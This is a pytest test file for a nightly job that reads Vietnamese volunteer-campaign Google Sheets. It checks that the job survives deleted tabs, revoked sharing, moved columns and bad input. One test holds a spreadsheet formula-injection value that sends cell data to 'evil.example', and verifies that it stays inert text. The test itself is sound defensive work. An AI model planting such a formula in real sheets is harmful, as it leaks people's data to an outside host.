"""A night on what people really do to their sheets: it finishes, and harms nothing."""

from collections.abc import Mapping
from datetime import date
from typing import Any

import pytest

from deploy.local.people import OWNER, ROBOT, client_of
from functions.domain.records import PROVINCE
from functions.domain.workbook import Cell
from functions.errors import ConfigError
from sheets_schema.model import FilledBy, TableKind
from tests.province import NEED, SCHEMA, Province, volunteer


def typed(province: Province, unit: str) -> dict[str, list[dict[int, Cell]]]:
    """Return everything in the input tabs of a unit outside the robot's columns."""
    workbook = province.services().workbooks.read(province.workbooks[unit])
    found: dict[str, list[dict[int, Cell]]] = {}
    for tab in workbook.tabs:
        table = next((each for each in SCHEMA.book("unit") if each.name == tab.key), None)
        if table and table.kind is TableKind.INPUT:
            own = {
                index
                for index, each in enumerate(table.fields)
                if each.filled_by is not FilledBy.PEOPLE
            }
            found[tab.key] = [
                {index: cell for index, cell in enumerate(row) if index not in own and cell}
                for row in tab.rows
            ]
    return found


def unreadable(province: Province) -> list[dict[str, Any]]:
    """Return the province's findings about workbooks."""
    return [
        row for row in province.rows(PROVINCE, "findings") if row["code"] == "workbook_unreadable"
    ]


def test_a_deleted_workbook_stops_nobody(province: Province) -> None:
    """The other units are served, and the province reads which workbook is gone."""
    client_of(OWNER, province.google).request(
        "delete", f"https://www.googleapis.com/drive/v3/files/{province.workbooks['706']}"
    )

    report = province.night()

    assert (report.units_read, report.units_stale, report.needs_met) == (1, 1, 1)
    (finding,) = unreadable(province)
    assert "Huyện đoàn Tân Châu" in finding["problem"]
    assert "không tìm thấy bảng tính" in finding["problem"]


def test_an_unshared_workbook_keeps_its_last_good_data(province: Province) -> None:
    """Yesterday's rows count on, labelled with their age, and nothing is written to the unit."""
    province.night()
    client = client_of(OWNER, province.google)
    workbook = province.workbooks["705"]
    for entry in client.list_permissions(workbook):
        if entry.get("emailAddress") == ROBOT:
            client.remove_permission(workbook, entry["id"])

    report = province.night()

    assert (report.units_stale, report.needs_met) == (1, 1)
    assert report.workbooks_written == (PROVINCE,)
    (finding,) = unreadable(province)
    assert "chưa được chia sẻ" in finding["problem"]
    assert "Đang dùng dữ liệu của" in finding["problem"]
    summary = " ".join(str(cell) for cell in province.tab(PROVINCE, "summary").rows[2])
    assert summary.startswith("Dùng dữ liệu cũ: Huyện đoàn Tân Biên (của ngày ")


def test_a_unit_without_a_link_is_named(province: Province) -> None:
    """A link that is missing in the registry is a finding, not a crash."""
    sheet = province.sheet(PROVINCE, "units")
    column = SCHEMA.table("province", "units").column("workbook")
    province.change(
        PROVINCE,
        {
            "updateCells": {
                "start": {"sheetId": sheet, "rowIndex": 1, "columnIndex": column},
                "rows": [{"values": [{}]}],
                "fields": "userEnteredValue",
            }
        },
    )

    report = province.night()

    assert report.units_stale == 1
    assert "chưa có liên kết" in unreadable(province)[0]["problem"]


def test_a_deleted_header_row_is_reported_and_the_rows_are_still_read(province: Province) -> None:
    """Columns are known by their keys, so a lost header loses no need."""
    sheet = province.sheet("705", "needs")
    where = {"sheetId": sheet, "dimension": "ROWS", "startIndex": 0, "endIndex": 1}
    province.change(
        "705",
        {
            "updateSheetProperties": {
                "properties": {"sheetId": sheet, "gridProperties": {"frozenRowCount": 0}},
                "fields": "gridProperties.frozenRowCount",
            }
        },
        {"deleteDimension": {"range": where}},
    )

    report = province.night()

    assert ("header_gone", "", "") in province.findings("705")
    assert report.needs_met == 1


def test_a_tab_of_formulas_and_errors_is_named_cell_by_cell(province: Province) -> None:
    """Error values are findings with their cells; the sound rows are served all the same."""
    sheet = province.sheet("705", "needs")
    errors = ["=1/0", "=NA()", "=#REF!", '="x"*1', "=IMPORTDATA(A1)"]
    province.change(
        "705",
        *(
            {
                "updateCells": {
                    "start": {"sheetId": sheet, "rowIndex": 3 + index, "columnIndex": 7},
                    "rows": [{"values": [{"userEnteredValue": {"formulaValue": formula}}]}],
                    "fields": "userEnteredValue",
                }
            }
            for index, formula in enumerate(errors)
        ),
    )
    before = typed(province, "705")

    report = province.night()

    found = [row for row in province.rows("705", "findings") if row["code"] == "sheet_error"]
    assert [row["cell"] for row in found] == [f"Nhu cầu H{row}" for row in range(4, 9)]
    assert report.needs_met == 1
    assert typed(province, "705") == before


def test_five_thousand_blank_rows_are_no_rows(province: Province) -> None:
    """An enormous empty tab is read as what it holds."""
    sheet = province.sheet("705", "needs")
    province.change(
        "705", {"appendDimension": {"sheetId": sheet, "dimension": "ROWS", "length": 5000}}
    )
    province.send("705", [{"range": "'Nhu cầu'!S5000", "values": [[" "]]}])

    report = province.night()

    assert report.rows["needs"].read == 1
    assert province.findings("705") == []


def test_a_cell_of_fifty_thousand_characters_is_a_finding(province: Province) -> None:
    """A document pasted into a cell is refused with its length, and stays where it is."""
    province.type("705", "needs", [{"place": "x" * 50_000}])
    before = typed(province, "705")

    province.night()

    (finding,) = [row for row in province.rows("705", "findings") if row["code"] == "too_long"]
    assert "50.000 ký tự" in finding["problem"]
    assert len(finding["value"]) == 80
    assert typed(province, "705") == before


def test_a_formula_typed_as_a_name_never_runs(province: Province) -> None:
    """What looks like a formula in a text cell is copied as text wherever it goes."""
    evil = '=IMPORTDATA("https://evil.example/?q="&A1)'
    province.type("705", "teams", [{"team_name": evil}])

    province.night()

    assert province.rows("705", "arrivals")[0]["team"] == evil
    tab = province.tab(PROVINCE, "assignments")
    assert evil in [cell for row in tab.rows for cell in row]
    assert tab.formulas == {}


def test_a_deleted_tab_is_a_finding_and_nothing_else_is_lost(province: Province) -> None:
    """The tabs that are still there are read and written as ever."""
    province.change("705", {"deleteSheet": {"sheetId": province.sheet("705", "resources")}})

    report = province.night()

    assert ("tab_missing", "", "") in province.findings("705")
    assert report.needs_met == 1


def test_a_deleted_robot_tab_does_not_stop_the_others(province: Province) -> None:
    """Without «Lỗi cần sửa» the unit still learns who comes."""
    province.change("705", {"deleteSheet": {"sheetId": province.sheet("705", "findings")}})

    province.night()

    assert province.rows("705", "arrivals")[0]["team"] == "Đội thử"


def test_a_renamed_tab_is_still_found(province: Province) -> None:
    """Tabs are known by their key, not by their name."""
    properties = {"sheetId": province.sheet("705", "needs"), "title": "NC tháng 8"}
    province.change("705", {"updateSheetProperties": {"properties": properties, "fields": "title"}})

    report = province.night()

    assert ("tab_renamed", "", "") in province.findings("705")
    assert report.needs_met == 1


@pytest.mark.parametrize("moved", [["moveDimension"], ["insertDimension"]])
def test_moved_and_inserted_columns_change_nothing(province: Province, moved: list[str]) -> None:
    """Columns are found wherever people put them."""
    sheet = province.sheet("705", "needs")
    requests: dict[str, Mapping[str, Any]] = {
        "moveDimension": {
            "source": {"sheetId": sheet, "dimension": "COLUMNS", "startIndex": 8, "endIndex": 9},
            "destinationIndex": 3,
        },
        "insertDimension": {
            "range": {"sheetId": sheet, "dimension": "COLUMNS", "startIndex": 2, "endIndex": 4}
        },
    }
    province.change("705", *({kind: requests[kind]} for kind in moved))

    report = province.night()

    assert (report.needs_met, report.errors) == (1, 0)


def test_a_deleted_required_column_sets_the_tab_aside(province: Province) -> None:
    """Rows are not read without a column that they need; the finding names the column."""
    sheet = province.sheet("705", "needs")
    column = SCHEMA.table("unit", "needs").column("date_range")
    where = {"sheetId": sheet, "dimension": "COLUMNS", "startIndex": column, "endIndex": column + 1}
    province.change("705", {"deleteDimension": {"range": where}})

    report = province.night()

    assert ("column_missing", "", "Thời gian dự kiến") in province.findings("705")
    assert (report.needs_met, report.needs_unmet) == (0, 0)


def test_sorting_and_inserting_rows_keeps_every_mark_on_its_row(province: Province) -> None:
    """Ids travel with their rows, and so do findings and statuses."""
    province.type("705", "needs", [{**NEED, "contact_phone": "123"}], at=1)
    province.night()
    sheet = province.sheet("705", "needs")
    province.change(
        "705",
        {
            "insertDimension": {
                "range": {"sheetId": sheet, "dimension": "ROWS", "startIndex": 2, "endIndex": 4}
            }
        },
    )

    tab = province.tab("705", "needs")
    assert [(row[0], row[1]) for row in tab.rows[4:6]] == [
        ("NC-705-001", "Đã nhận"),
        ("NC-705-002", "Cần sửa"),
    ]
    province.night()
    finding = next(row for row in province.rows("705", "findings") if row["code"] == "bad_phone")
    assert (finding["row_id"], finding["cell"]) == ("NC-705-002", "Nhu cầu Q6")


def test_nothing_that_people_typed_is_ever_changed(province: Province) -> None:
    """Whatever stands in the people's columns before the night stands there afterwards."""
    province.type("705", "needs", [{**NEED, "sessions": "hai", "note": "=1+1"}], at=1)
    province.type("705", "volunteers", [{**volunteer(7), "phone": 912345607}], at=5)
    province.type("706", "needs", [{"commune": "#REF!", "topics": "\u00a0", "sessions": True}])
    before = typed(province, "705"), typed(province, "706")

    province.night()
    province.night(today=date(2024, 9, 1))

    assert (typed(province, "705"), typed(province, "706")) == before


def test_people_cannot_write_into_the_robots_columns(province: Province) -> None:
    """The local Google enforces the protection as Google does."""
    client = client_of("unit705@doan.example", province.google)
    body = {
        "valueInputOption": "RAW",
        "data": [{"range": province.cell("705", "needs", "need_id", 0), "values": [["X"]]}],
    }

    with pytest.raises(Exception, match="protected cell"):
        client.values_batch_update(province.workbooks["705"], body)


def test_without_the_list_of_assignments_nothing_is_decided(province: Province) -> None:
    """Whoever was told to come still comes; the province reads which tab is missing."""
    province.night()
    province.change(PROVINCE, {"deleteSheet": {"sheetId": province.sheet(PROVINCE, "assignments")}})
    province.type("705", "needs", [{"expected_beneficiaries": "nhiều"}])

    province.night()

    assert ("tab_missing", "", "") in province.findings(PROVINCE)
    assert province.rows("705", "arrivals")[0]["team"] == "Đội thử"
    assert ("bad_number", "NC-705-001", "Số lượt dự kiến") in province.findings("705")


def test_a_decision_that_cannot_be_read_decides_nothing_and_says_so(province: Province) -> None:
    """The coordinator reads what may be chosen; the proposal stands as it was."""
    province.night()
    province.type(PROVINCE, "assignments", [{"decision": "để xem"}])

    province.night()

    assert ("unknown_choice", "PC-T-001", "Duyệt") in province.findings(PROVINCE)
    assert province.rows(PROVINCE, "assignments")[0]["state"] == "Đề xuất"


def test_a_province_without_active_units_has_a_quiet_night(province: Province) -> None:
    """Nobody takes part yet: the page says so and nothing fails."""
    province.type(PROVINCE, "units", [{"active": "Không"}, {"active": "Không"}])

    report = province.night()

    assert (report.units_read, report.needs_met, report.workbooks_written) == (0, 0, (PROVINCE,))
    assert province.night().writes == 0


def test_a_province_without_dates_cannot_be_judged(province: Province) -> None:
    """The error names the settings that are missing; nothing is written."""
    names = [each.name for each in SCHEMA.settings]
    row = names.index("campaign_end")
    province.send(PROVINCE, [{"range": f"'Cấu hình'!C{row + 2}", "values": [["sau khi tổng kết"]]}])

    with pytest.raises(ConfigError, match="campaign_end"):
        province.night()
